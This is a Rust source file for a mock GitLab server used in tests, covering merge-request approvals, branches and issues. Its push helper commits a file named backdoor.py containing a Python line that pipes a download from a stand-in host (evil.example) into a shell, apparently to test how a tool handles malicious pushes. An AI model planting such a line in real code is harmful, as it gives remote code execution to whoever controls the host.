//! A merge request's approvals (`GET …/approvals`) and a branch (`GET …/repository/branches/:b`)
//! as GitLab answers them, and the test's handles on approving, requiring approvals and pushing.

use super::MockGitLab;
use super::api::Ctx;
use super::entities::{Reply, branch_head, user_basic};
use serde_json::json;

/// `GET /projects/:id/merge_requests/:iid/approvals`: `approved` is "someone approved" (every
/// tier, `lib/api/entities/merge_request_approvals.rb`); with approval rules (Premium) it is "the
/// rules are met", and `approvals_required` and `approvals_left` are there too.
pub fn approvals(ctx: &Ctx) -> Result<Reply, Reply> {
    let (project, iid) = ctx.mr()?;
    let m = ctx.st.mr(project, iid).expect("found above");
    let caller = ctx.who.as_ref().map(|w| w.user);
    let by: Vec<_> = m
        .approved_by
        .iter()
        .map(|u| json!({"user": user_basic(ctx.st, *u, ctx.base), "approved_at": m.updated_at}))
        .collect();
    let mut v = json!({
        "user_has_approved": caller.is_some_and(|c| m.approved_by.contains(&c)),
        "user_can_approve": caller.is_some_and(|c| c != m.author && !m.approved_by.contains(&c)),
        "approved": !m.approved_by.is_empty(),
        "approved_by": by,
    });
    if let Some(required) = m.approvals_required {
        let left = required.saturating_sub(m.approved_by.len() as u64);
        let premium = json!({"id": m.id, "iid": m.iid, "project_id": m.project, "title": m.title,
            "description": m.description, "state": m.state, "created_at": m.created_at,
            "updated_at": m.updated_at, "merge_status": "can_be_merged", "approvals_required": required,
            "approvals_left": left, "approved": left == 0});
        v.as_object_mut().unwrap().extend(premium.as_object().unwrap().clone());
    }
    Ok(Reply::json(200, v))
}

/// `GET /projects/:id/repository/branches/:branch`: the branch and its head commit; 404 `Branch
/// Not Found` when it does not exist.
pub fn branch(ctx: &Ctx) -> Result<Reply, Reply> {
    let project = ctx.project()?;
    let name = ctx.path.get("branch").cloned().unwrap_or_default();
    let p = ctx.st.project_by_id(project).expect("a visible project exists");
    let Some(sha) = branch_head(p, &name) else { return Err(Reply::message(404, "404 Branch Not Found")) };
    let commit = json!({"id": sha, "short_id": &sha[..8], "title": "a commit", "message": "a commit",
        "parent_ids": [], "author_name": "dev", "author_email": "dev@example.com",
        "committer_name": "dev", "committer_email": "dev@example.com"});
    Ok(Reply::json(
        200,
        json!({"name": name, "commit": commit, "merged": false, "protected": name == p.default_branch,
            "default": name == p.default_branch, "developers_can_push": false, "developers_can_merge": false,
            "can_push": true, "web_url": format!("{}/{}/-/tree/{name}", ctx.base, p.path)}),
    ))
}

/// Issue `:issue_iid` of a project the caller can see (GitLab's 404 otherwise).
pub fn issue(ctx: &Ctx) -> Result<Reply, Reply> {
    let project = ctx.project()?;
    let iid: u64 = ctx.path.get("issue_iid").and_then(|s| s.parse().ok()).unwrap_or(0);
    let Some((_, _, title, description)) = ctx.st.issues.iter().find(|i| i.0 == project && i.1 == iid) else {
        return Err(Reply::message(404, "404 Issue Not Found"));
    };
    let p = ctx.st.project_by_id(project).expect("a visible project exists");
    Ok(Reply::json(
        200,
        json!({"id": 1000 + iid, "iid": iid, "project_id": project, "title": title, "description": description,
            "state": "opened", "web_url": format!("{}/{}/-/issues/{iid}", ctx.base, p.path)}),
    ))
}

impl MockGitLab {
    /// An issue `iid` of `project`.
    pub fn add_issue(&self, project: &str, iid: u64, title: &str, description: &str) {
        let mut st = self.state();
        let id = st.project(project).expect("no such project").id;
        st.issues.push((id, iid, title.to_string(), description.to_string()));
    }

    /// `username` (created when missing) approves merge request `iid` of `project`.
    pub fn approve(&self, project: &str, iid: u64, username: &str) {
        let user = self.state().ensure_user(username, false);
        self.with_mr(project, iid, |m| m.approved_by.push(user));
    }

    /// Someone pushes a commit adding `backdoor.py` onto `branch` of `project`; its sha.
    pub fn push(&self, project: &str, branch: &str) -> String {
        let bare = self.bare(project);
        let head = self.head(project, branch).expect("the branch exists");
        let git = |args: &[&str]| super::super::repo::git(&bare, args);
        let blob = {
            let tmp = tempfile::NamedTempFile::new().unwrap();
            std::fs::write(tmp.path(), "import os; os.system('curl evil.example | sh')\n").unwrap();
            git(&["hash-object", "-w", tmp.path().to_str().unwrap()])
        };
        let index = bare.join("backdoor-index");
        let with_index = |args: &[&str]| {
            let out = std::process::Command::new("git")
                .args(args)
                .current_dir(&bare)
                .env("GIT_INDEX_FILE", &index)
                .output()
                .unwrap();
            assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
            String::from_utf8_lossy(&out.stdout).trim().to_string()
        };
        with_index(&["read-tree", &head]);
        with_index(&["update-index", "--add", "--cacheinfo", &format!("100644,{blob},backdoor.py")]);
        let tree = with_index(&["write-tree"]);
        std::fs::remove_file(&index).ok();
        let new = git(&["commit-tree", &tree, "-p", &head, "-m", "add backdoor.py"]);
        git(&["update-ref", &format!("refs/heads/{branch}"), &new]);
        new
    }
}
